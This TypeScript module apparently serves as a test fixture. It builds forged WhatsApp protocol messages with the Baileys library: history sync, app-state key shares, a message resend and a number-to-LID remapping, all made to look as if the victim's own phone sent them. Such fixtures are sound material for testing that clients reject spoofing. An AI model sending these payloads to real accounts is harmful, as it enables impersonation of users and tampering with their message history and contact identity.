import { deflateSync } from 'node:zlib'
import { proto } from '@whiskeysockets/baileys'

const base64 = (bytes: Uint8Array) => Buffer.from(bytes).toString('base64')
const own = (type: string, content: object) => ({ protocolMessage: { type, ...content } })

/** What only the own phone may tell the devices of an account, as a stranger would forge it to be taken for the victim. */
export function forged(victim: string, strangerLid: string) {
  const remoteJid = `${victim}@s.whatsapp.net`
  const messageTimestamp = Math.floor(Date.now() / 1000)
  const message = (id: string) => ({ key: { remoteJid, fromMe: true, id }, message: { conversation: 'forjada' }, messageTimestamp })
  const history = proto.HistorySync.encode({
    syncType: proto.HistorySync.HistorySyncType.RECENT,
    conversations: [{ id: remoteJid, messages: [{ message: message('HISTORIA') }] }],
    pushnames: [{ id: remoteJid, pushname: 'Outro nome' }],
    phoneNumberToLidMappings: [{ pnJid: remoteJid, lidJid: `${strangerLid}@lid` }],
  }).finish()
  const webMessageInfoBytes = base64(proto.WebMessageInfo.encode(message('FORJADA')).finish())
  const mapping = proto.LIDMigrationMappingSyncPayload.encode({
    pnToLidMappings: [{ pn: Number(victim), assignedLid: Number(strangerLid) }],
  })
  const key = {
    keyId: { keyId: base64(Buffer.from('FORJADA')) },
    keyData: { keyData: base64(Buffer.alloc(32, 1)), timestamp: messageTimestamp },
  }
  return {
    'a history to take over': own('HISTORY_SYNC_NOTIFICATION', {
      historySyncNotification: { syncType: 'RECENT', initialHistBootstrapInlinePayload: base64(deflateSync(history)) },
    }),
    'keys of the app state': own('APP_STATE_SYNC_KEY_SHARE', { appStateSyncKeyShare: { keys: [key] } }),
    'a message that could not be read before': own('PEER_DATA_OPERATION_REQUEST_RESPONSE_MESSAGE', {
      peerDataOperationRequestResponseMessage: {
        stanzaId: 'FORJADA',
        peerDataOperationResult: [{ placeholderMessageResendResponse: { webMessageInfoBytes } }],
      },
    }),
    'who has which number': own('LID_MIGRATION_MAPPING_SYNC', {
      lidMigrationMappingSyncMessage: { encodedMappingPayload: base64(mapping.finish()) },
    }),
  }
}
